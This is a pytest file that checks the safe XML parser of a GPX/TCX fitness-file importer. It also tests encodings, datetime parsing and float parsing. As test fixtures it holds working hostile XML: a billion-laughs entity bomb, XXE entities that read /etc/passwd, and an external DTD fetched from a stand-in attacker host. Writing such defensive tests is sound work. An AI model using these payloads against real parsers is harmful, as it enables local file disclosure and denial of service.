"""Safe XML parsing: entity attacks refused, namespace slips recovered, errors located."""

from __future__ import annotations

import codecs
import time
from pathlib import Path

import numpy as np
import pytest

from backstride.errors import CorruptFileError, UnsafeInputError
from backstride.importers.gpx import parse_gpx
from backstride.importers.tcx import parse_tcx
from backstride.importers.xmlsafe import (
    NO_TIME,
    first_utc_offset_s,
    parse_datetimes,
    parse_floats,
    parse_xml,
    us_to_datetime,
)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1"><trk><name>&lol9;</name>
<trkseg><trkpt lat="45" lon="7"><time>2024-01-01T00:00:00Z</time></trkpt></trkseg></trk></gpx>
"""

XXE_GPX = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1"><trk><name>&xxe;</name>
<trkseg><trkpt lat="45" lon="7"><time>2024-01-01T00:00:00Z</time></trkpt></trkseg></trk></gpx>
"""

XXE_TCX = b"""<?xml version="1.0"?>
<!DOCTYPE t [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<TrainingCenterDatabase xmlns="http://www.garmin.com/xmlschemas/TrainingCenterDatabase/v2">
<Activities><Activity Sport="Running"><Id>2024-01-01T00:00:00Z</Id><Lap><Track><Trackpoint>
<Time>2024-01-01T00:00:00Z</Time></Trackpoint></Track></Lap>
<Creator><Name>&xxe;</Name></Creator></Activity></Activities></TrainingCenterDatabase>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<gpx/>
"""


def test_billion_laughs_is_refused_quickly() -> None:
    t0 = time.perf_counter()
    with pytest.raises(UnsafeInputError, match="entities"):
        parse_gpx(BILLION_LAUGHS, source="bomb.gpx")
    assert time.perf_counter() - t0 < 1.0


@pytest.mark.parametrize("doc", [XXE_GPX, XXE_TCX, PARAMETER_ENTITY], ids=["gpx", "tcx", "param"])
def test_external_entities_are_refused_and_never_read(doc: bytes) -> None:
    for parse in (parse_gpx, parse_tcx):
        with pytest.raises(UnsafeInputError) as info:
            parse(doc, source="xxe.xml")
        assert "root:" not in str(info.value)  # nothing of /etc/passwd leaks


def test_entities_in_utf16_are_refused_too() -> None:
    doc = XXE_GPX.decode().replace('version="1.0"?>', 'version="1.0" encoding="UTF-16"?>', 1)
    with pytest.raises(UnsafeInputError):
        parse_xml(codecs.BOM_UTF16_LE + doc.encode("utf-16-le"), source="x")


def test_entity_reference_without_declaration_in_doc_is_not_expanded() -> None:
    # an external DTD is never loaded; a reference to its entities is refused
    doc = b'<!DOCTYPE gpx SYSTEM "http://attacker.invalid/gpx.dtd"><gpx>&secret;</gpx>'
    with pytest.raises(UnsafeInputError):
        parse_xml(doc, source="x")


def test_plain_doctype_is_harmless() -> None:
    doc = parse_xml(b'<!DOCTYPE gpx SYSTEM "gpx.dtd"><gpx creator="x"/>', source="x")
    assert doc.root.get("creator") == "x"


def test_undeclared_namespace_prefix_is_recovered_with_a_warning() -> None:
    doc = parse_xml(b'<a>\n<b xsi:type="Device_t">x</b></a>', source="x")
    assert doc.root.find("b") is not None
    (warning,) = doc.warnings
    assert "xsi" in warning and "line 2" in warning


def test_namespace_slip_plus_real_damage_is_corrupt() -> None:
    with pytest.raises(CorruptFileError, match=r"line 1, column \d+"):
        parse_xml(b'<a><b xsi:type="x"/><c></a>', source="x")


@pytest.mark.parametrize(
    "doc",
    [b"", b"   ", b"<gpx><trk></gpx>", b"<gpx", b"<a>\x00</a>", b"not xml at all"],
    ids=["empty", "blank", "mismatch", "truncated", "nul", "text"],
)
def test_syntax_errors_name_line_and_column(doc: bytes) -> None:
    with pytest.raises(CorruptFileError, match=r"line \d+, column \d+"):
        parse_xml(doc, source="x")


def test_excessive_depth_is_unsafe() -> None:
    with pytest.raises(UnsafeInputError, match="safety limits"):
        parse_xml(b"<a>" * 5000 + b"</a>" * 5000, source="x")


def test_utf8_bom_and_other_encodings(activities_dir: Path) -> None:
    bom = (activities_dir / "gpxpy" / "unicode_with_bom.gpx").read_bytes()
    assert bom.startswith(codecs.BOM_UTF8)
    assert parse_xml(bom, source="bom").root.tag == "gpx"
    latin = '<?xml version="1.0" encoding="ISO-8859-1"?><gpx creator="Zürich"/>'.encode("latin-1")
    assert parse_xml(latin, source="x").root.get("creator") == "Zürich"
    utf16 = '<?xml version="1.0" encoding="UTF-16"?><gpx creator="é"/>'.encode("utf-16")
    assert parse_xml(utf16, source="x").root.get("creator") == "é"


def test_parse_datetimes() -> None:
    us = parse_datetimes([
        "2020-09-04T09:25:50.116000Z", None, "garbage", " 2015-12-11T15:43:13.994+01:00 ",
        "1901-12-13T20:45:52.2073437Z", "2010-08-05T14:23:59",
    ])
    assert us_to_datetime(int(us[0])).isoformat() == "2020-09-04T09:25:50.116000+00:00"
    assert us[1] == NO_TIME and us[2] == NO_TIME
    assert us_to_datetime(int(us[3])).isoformat() == "2015-12-11T14:43:13.994000+00:00"
    assert us_to_datetime(int(us[4])).isoformat() == "1901-12-13T20:45:52.207343+00:00"
    assert us_to_datetime(int(us[5])).isoformat() == "2010-08-05T14:23:59+00:00"
    # the vectorised path (all "Z") and the per-item path agree
    zs = ["2021-01-10T08:54:28Z", "2021-01-10T08:54:32.5Z"]
    mixed = parse_datetimes([*zs, "2021-01-10T08:54:28+00:00"])
    assert list(parse_datetimes(zs)) == list(mixed[:2])
    assert first_utc_offset_s("2015-12-11T15:43:13.994+01:00") == 3600
    assert first_utc_offset_s("2015-12-11T15:43:13Z") is None


def test_parse_floats() -> None:
    out = parse_floats(["1.5", " 2 ", None, "x", "inf", "1e400", "-3"])
    assert out[0] == 1.5 and out[1] == 2.0 and out[6] == -3.0
    assert np.isnan(out[2:6]).all()
